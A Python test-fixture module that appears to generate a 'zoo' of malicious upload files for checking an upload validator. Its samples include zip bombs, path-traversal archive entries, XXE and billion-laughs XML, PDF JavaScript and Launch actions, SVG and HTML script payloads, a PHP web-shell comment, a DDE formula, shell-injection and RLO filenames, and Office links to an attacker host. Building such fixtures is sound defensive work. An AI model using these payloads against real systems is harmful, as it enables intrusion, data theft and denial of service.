"""上传动物园: more than a hundred files that are made to harm, each with what must become of it.

``REFUSED`` goes into no storage. ``INERT`` may be kept, as what it is by its content: it is handed out as a download with a type
that no browser runs. Everything is made here; nothing was ever anybody's.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

from gongkai.web.viruses import SAMPLE
from tests import filmed

REFUSED, INERT = "refused", "inert"
EICAR = "".join(SAMPLE)
SCRIPT = "<script>alert(document.domain)</script>"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = "<Types/>"


@dataclass(frozen=True, slots=True)
class Beast:
    """A file that harms: what it is, its name and bytes, and what must become of it."""

    what: str
    name: str
    data: bytes
    fate: str


def zipped(parts: Mapping[str, str | bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def word(**more: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": "<w/>", **_named(more)})


def book(**more: str | bytes) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<w/>", **_named(more)})


def ofd(**more: str | bytes) -> bytes:
    return zipped({"OFD.xml": "<o/>", **_named(more)})


def _named(more: Mapping[str, str | bytes]) -> dict[str, str | bytes]:
    return {name.replace("__", "/"): content for name, content in more.items()}


def png(width: int = 2, height: int = 2, tail: bytes = b"") -> bytes:
    rows = zlib.compress(b"".join(b"\0" + b"\0" * (3 * min(width, 8)) for _ in range(min(height, 8))))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"") + tail


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def jpg(width: int = 2, height: int = 2, comment: bytes = b"") -> bytes:
    said = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + said + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 8 + b"\xff\xd9"


def pdf(body: str = "", tail: bytes = b"") -> bytes:
    return f"%PDF-1.7\n1 0 obj\n<</Type /Catalog {body}>>\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n".encode() + tail


def packed_objects(text: str) -> bytes:
    body = zlib.compress(text.encode())
    head = f"2 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(body)}>>\nstream\n".encode()
    return pdf(tail=head + body + b"\nendstream\nendobj\n")


def relation(kind: str, target: str) -> str:
    led = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{led}</Relationships>"


def encrypted(data: bytes) -> bytes:
    """A zip whose parts say they are encrypted."""
    bent = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = bent.find(mark)
        while place >= 0:
            bent[place + at] |= 1
            place = bent.find(mark, place + 4)
    return bytes(bent)


def doubled() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in ("[Content_Types].xml", "word/document.xml"):
            archive.writestr(name, "<x/>")
    data = out.getvalue()
    other = io.BytesIO(data)
    with zipfile.ZipFile(other, "a") as archive:
        info = zipfile.ZipInfo("word/documenu.xml")
        archive.writestr(info, "<script/>")
    return other.getvalue().replace(b"word/documenu.xml", b"word/document.xml")


def bombs() -> Iterator[Beast]:
    letter = b"\0" * (32 * 1024 * 1024)
    for name, make in (("docx", word), ("xlsx", book), ("ofd", ofd)):
        yield Beast("a part that unpacks to 32 MB out of 32 KB", f"炸弹.{name}", make(a__b=letter), REFUSED)
        many = {f"p__{number}.xml": b"" for number in range(20_500)} if name == "docx" else None
        if many is not None:
            yield Beast("more parts than any letter has", f"碎.{name}", make(**many), REFUSED)
        lying = bytearray(make(a__b=b"x" * 100))
        place = lying.rfind(b"PK\x01\x02")
        lying[place + 24 : place + 28] = struct.pack("<I", 0xF0000000)
        yield Beast("says it unpacks to four gigabytes", f"谎.{name}", bytes(lying), REFUSED)


def packages() -> Iterator[Beast]:
    for extension, make in (("docx", word), ("xlsx", book), ("ofd", ofd)):
        yield Beast("macros", f"宏.{extension}", make(**{"word__vbaProject.bin": b"x"}), REFUSED)
        yield Beast("controls", f"控件.{extension}", make(**{"word__activeX__activeX1.bin": b"x"}), REFUSED)
        yield Beast("a program inside", f"程序.{extension}", make(**{"word__embeddings__a.exe": b"MZ"}), REFUSED)
        yield Beast("a script inside", f"脚本.{extension}", make(**{"word__a.js": b"x"}), REFUSED)
        yield Beast("climbs out of its folder", f"爬.{extension}", make(**{"..__..__etc__cron.d__x": b"x"}), REFUSED)
        yield Beast("an absolute part", f"绝对.{extension}", make(**{"__etc__passwd": b"x"}), REFUSED)
        yield Beast("a part of another drive", f"盘.{extension}", make(**{"C:__windows__x": b"x"}), REFUSED)
        yield Beast("backslashes", f"反.{extension}", make(**{"..\\..\\x": b"x"}), REFUSED)
        yield Beast("encrypted parts", f"密.{extension}", encrypted(make()), REFUSED)
        entity = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
        yield Beast("reads a file of the server", f"实体.{extension}", make(**{"word__styles.xml": entity}), REFUSED)
        laughs = '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>'
        yield Beast("a billion laughs", f"大笑.{extension}", make(**{"word__settings.xml": laughs}), REFUSED)
        wide = entity.encode("utf-16")
        yield Beast("an entity in UTF-16", f"宽实体.{extension}", make(**{"word__styles.xml": wide}), REFUSED)
        yield Beast("cut in the middle", f"断.{extension}", make()[:-30], REFUSED)
        yield Beast("its directory points elsewhere", f"乱.{extension}", make()[:-22] + b"\0" * 22, REFUSED)
    yield Beast("two parts of one name", "重名.docx", doubled(), REFUSED)
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument", "aFChunk"):
        fetching = word(**{"word___rels__document.xml.rels": relation(kind, "http://attacker.invalid/x")})
        yield Beast(f"fetches a {kind} when it is opened", f"远程{kind}.docx", fetching, REFUSED)
    linked = book(**{"xl__externalLinks___rels__e1.xml.rels": relation("externalLinkPath", "file:///etc/passwd")})
    yield Beast("a sheet that reads another file", "外链.xlsx", linked, REFUSED)
    plain = word(**{"word___rels__document.xml.rels": relation("hyperlink", "https://www.example.gov.cn/")})
    yield Beast("a letter with a hyperlink", "链接.docx", plain, INERT)


def papers() -> Iterator[Beast]:
    script = "/OpenAction <</S /JavaScript /JS (app.alert(1))>>"
    yield Beast("runs a script when it is opened", "脚本.pdf", pdf(script), REFUSED)
    yield Beast("a script with its name escaped", "转义.pdf", pdf("/AA <</S /J#61vaScript /JS (x)>>"), REFUSED)
    yield Beast(
        "a script all of whose letters are escaped",
        "全转义.pdf",
        pdf(f"/S /{''.join(f'#{ord(c):02x}' for c in 'JavaScript')}"),
        REFUSED,
    )
    yield Beast("a script packed among objects", "打包.pdf", packed_objects(script), REFUSED)
    yield Beast("starts a program", "启动.pdf", pdf("/OpenAction <</S /Launch /F (cmd.exe)>>"), REFUSED)
    yield Beast("a program packed among objects", "打包启动.pdf", packed_objects("<</S /Launch>>"), REFUSED)
    yield Beast("a film with a player", "富媒体.pdf", pdf("/A <</Subtype /RichMedia>>"), REFUSED)
    yield Beast("encrypted", "加密.pdf", pdf() + b"trailer\n<</Encrypt 9 0 R>>\n", REFUSED)
    yield Beast("nothing but a head", "头.pdf", b"%PDF-1.7", INERT)
    yield Beast("a PDF that is a zip too", "两用.pdf", pdf(tail=zipped({"a.html": SCRIPT})), INERT)
    yield Beast("a PDF with a page of the web behind it", "后缀网页.pdf", pdf(tail=SCRIPT.encode()), INERT)
    yield Beast("a page of the web before a PDF", "前缀网页.pdf", SCRIPT.encode() + pdf(), REFUSED)
    yield Beast("a program that calls itself a PDF", "程序.pdf", b"MZ" + pdf(), REFUSED)


def pictures() -> Iterator[Beast]:
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'.encode()
    for extension in ("png", "jpg", "jpeg"):
        yield Beast("a drawing with a script", f"图.{extension}", svg, REFUSED)
        yield Beast("a page of the web", f"页.{extension}", f"<html>{SCRIPT}</html>".encode(), REFUSED)
        yield Beast("a program", f"程序.{extension}", b"MZ\x90\x00", REFUSED)
        yield Beast("a GIF with a script", f"动图.{extension}", b"GIF89a/*" + SCRIPT.encode(), REFUSED)
    yield Beast("a billion pixels", "大.png", png(60_000, 60_000), REFUSED)
    yield Beast("as long as nothing is", "长.png", png(4_000_000_000, 1), REFUSED)
    yield Beast("no pixel at all", "空.png", png(0, 0), REFUSED)
    yield Beast("a page hidden behind a picture", "藏.png", png(tail=SCRIPT.encode()), REFUSED)
    yield Beast("an archive hidden behind a picture", "藏包.png", png(tail=zipped({"x": "y"})), REFUSED)
    yield Beast("a picture cut in the middle", "断.png", png()[:-20], REFUSED)
    yield Beast("a head and nothing", "头.png", b"\x89PNG\r\n\x1a\n", REFUSED)
    yield Beast("a chunk without end", "块.png", png()[:33] + struct.pack(">I", 0xFFFFFFFF) + b"IDATx", REFUSED)
    yield Beast("four billion pixels", "大.jpg", jpg(65_535, 65_535), REFUSED)
    yield Beast("no pixel at all", "空.jpg", jpg(0, 0), REFUSED)
    yield Beast("no frame", "无帧.jpg", b"\xff\xd8\xff\xd9", REFUSED)
    yield Beast("a segment of no length", "零.jpg", b"\xff\xd8\xff\xe0\x00\x00" + b"\xff" * 20, REFUSED)
    yield Beast("a script in a comment", "注.jpg", jpg(comment=SCRIPT.encode()), INERT)
    yield Beast("a program of PHP in a comment", "php.jpg", jpg(comment=b"<?php system($_GET[0]); ?>"), INERT)


def texts() -> Iterator[Beast]:
    yield Beast("a page that calls itself a text", "页.txt", SCRIPT.encode(), INERT)
    yield Beast("a drawing that calls itself a text", "图.txt", f"<svg>{SCRIPT}</svg>".encode(), INERT)
    yield Beast("a formula that starts a program", "公式.txt", b"=cmd|' /C calc'!A0,1\n", INERT)
    yield Beast("the test of the virus hunters", "eicar.txt", EICAR.encode(), INERT)
    yield Beast("zeros among letters", "零.txt", b"a\0b", REFUSED)
    yield Beast("escapes for the terminal", "控制.txt", b"\x1b]0;x\x07", REFUSED)
    yield Beast("neither of the two encodings", "乱码.txt", b"\xff\xfe\xfa\x80\x81", REFUSED)
    yield Beast("a page by its own name", "页.html", SCRIPT.encode(), REFUSED)
    yield Beast("a page of the web kept whole", "页.mht", b"MIME-Version: 1.0\r\n\r\n" + SCRIPT.encode(), REFUSED)
    yield Beast("styles that fetch", "样式.css", b"@import url(http://attacker.invalid)", REFUSED)
    yield Beast("a script by its own name", "脚本.js", b"alert(1)", REFUSED)


def names() -> Iterator[Beast]:
    for what, name in (
        ("a second extension", "附件.pdf.exe"),
        ("an extension after a line end", "附件.pdf\n.exe"),
        ("an extension after a zero", "附件.exe\0.pdf.exe"),
        ("a stream of another system", "附件.pdf::$DATA"),
        ("no extension", "附件"),
        ("nothing but an extension", ".htaccess"),
        ("a program of the server", "附件.php"),
        ("another program of the server", "附件.jsp"),
        ("a dot at the end", "附件.pdf."),
        ("blanks at the end", "附件.pdf   "),
        ("a device of another system", "CON"),
    ):
        yield Beast(what, name, pdf(), REFUSED)
    for what, name in (
        ("a name that climbs", "../../../../etc/附件.pdf"),
        ("a name that climbs on another system", "..\\..\\附件.pdf"),
        ("a name turned about", "附件\u202efdp.exe\u202c.pdf"),
        ("a name that cannot be seen", "\u200b\u2060\ufeff.pdf"),
        ("a name with markup", '"><script>alert(1)</script>.pdf'),
        ("a name with a header in it", "附件\r\nSet-Cookie: a=b.pdf"),
        ("a name of three hundred letters", "长" * 300 + ".pdf"),
        ("a name of a shell", "$(touch x);`id`|.pdf"),
        ("a program with a second extension", "附件.exe.pdf"),
        ("a name of letters that look alike", "аttасhmеnt.pdf"),
    ):
        yield Beast(what, name, pdf(), INERT)


def others() -> Iterator[Beast]:
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    for what, name, data in (
        (
            "an old letter with macros",
            "旧.doc",
            old + "WordDocument".encode("utf-16-le") + "_VBA_PROJECT".encode("utf-16-le"),
        ),
        ("an old letter that is locked", "锁.doc", old + "EncryptedPackage".encode("utf-16-le")),
        ("an old sheet", "旧.xls", old + "Workbook".encode("utf-16-le")),
        ("a shortcut", "快捷.lnk", b"L\0\0\0\x01\x14\x02\0"),
        ("an installer", "装.msi", old),
        ("a program of Linux", "程序.elf", b"\x7fELF\x02\x01\x01"),
        ("a program of Java", "程序.class", b"\xca\xfe\xba\xbe"),
        ("an archive", "包.zip", zipped({"a.txt": "x"})),
        ("an archive of another kind", "包.rar", b"Rar!\x1a\x07\x00"),
        ("an archive of a third kind", "包.7z", b"7z\xbc\xaf\x27\x1c"),
        ("an archive in an archive that is itself", "包.gz", b"\x1f\x8b\x08\0"),
        ("a disk", "盘.iso", b"\0" * 32769 + b"CD001"),
        ("a letter of RTF with an object", "信.rtf", b"{\\rtf1{\\object\\objocx}}"),
        ("a font", "字.ttf", b"\0\x01\0\0"),
        ("a drawing that was packed", "图.svgz", zlib.compress(b"<svg/>")),
        ("a help file", "帮助.chm", b"ITSF\x03"),
        ("a database", "库.mdb", b"\0\x01\0\0Standard Jet DB"),
        ("nothing", "空.pdf", b""),
    ):
        yield Beast(what, name, data, REFUSED)


def films() -> Iterator[Beast]:
    for what, name, data in (
        ("a film that fetches from outside", "外.mp4", filmed.mp4(filmed.track(inside=False))),
        ("a film with a track of places", "位.mp4", filmed.mp4(filmed.track(), filmed.track(b"meta", b"gpmd"))),
        ("a film with an archive behind it", "尾.mp4", filmed.mp4(more=zipped({"a.txt": "x"}))),
        ("a film that is locked", "锁.mp4", filmed.mp4(filmed.track(codec=b"encv"))),
        ("a film of a million boxes", "碎.mp4", filmed.mp4(within=filmed.box(b"trak") * 30_000)),
        ("a film with a program attached", "附.webm", filmed.webm(within=filmed.element(0x1941A469, b"MZ"))),
        ("a film of another kind", "异.webm", filmed.webm(doc=b"matroska")),
        ("a page that begins like a film", "页.mp4", b"\0\0\0\x18ftypisom" + b"\0" * 12 + SCRIPT.encode()),
    ):
        yield Beast(what, name, data, REFUSED)


ZOO = (*bombs(), *packages(), *papers(), *pictures(), *texts(), *names(), *others(), *films())
